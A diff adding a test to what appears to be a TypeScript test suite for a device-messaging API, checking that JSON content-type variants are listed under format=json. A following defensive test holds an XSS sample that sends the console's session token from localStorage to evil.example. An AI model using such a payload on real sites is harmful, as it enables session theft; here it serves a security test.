@@ -165,6 +165,21 @@ describe('message query API', () => {
     expectProblem(await api('GET', `/channels/${ch}/payloads/999`, { token: t }), 404);
   });
 
+  it('lists as format=json every document the channel checked as application/json, however its type was written', async () => {
+    const other = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'json-types' } })).body.id as string;
+    const types = ['application/json', 'Application/JSON', 'application/json; charset=utf-8', 'application/json ; charset=UTF-8', 'APPLICATION/JSON;charset=utf-8'];
+    await api('PUT', `/orgs/${org}/channels/${other}/devices/${dev.id}`, { token: t, body: {} });
+    for (const type of types) await publish(other, dev.key, JSON.stringify({ type }), type);
+    // Not JSON documents: another type that merely starts alike, and text.
+    await publish(other, dev.key, '{"x":1}', 'application/jsonl');
+    await publish(other, dev.key, 'plain', 'text/plain');
+    expect(await drain(other)).toBe(true);
+    const r = await api('GET', `/channels/${other}/messages?format=json&order=asc`, { token: t });
+    expect(r.status).toBe(200);
+    expect(r.body.items.map((i: { payload: { type: string } }) => i.payload.type)).toEqual(types);
+    expect(r.body.total).toBe(types.length);
+  });
+
   it('serves a payload a device published as HTML so that it can never run as a page on the console\'s origin', async () => {
     const other = (await api('POST', `/orgs/${org}/channels`, { token: t, body: { name: 'html' } })).body.id as string;
     const html = '<script>fetch("https://evil.example/?" + localStorage["edgeflux.session"])</script>';
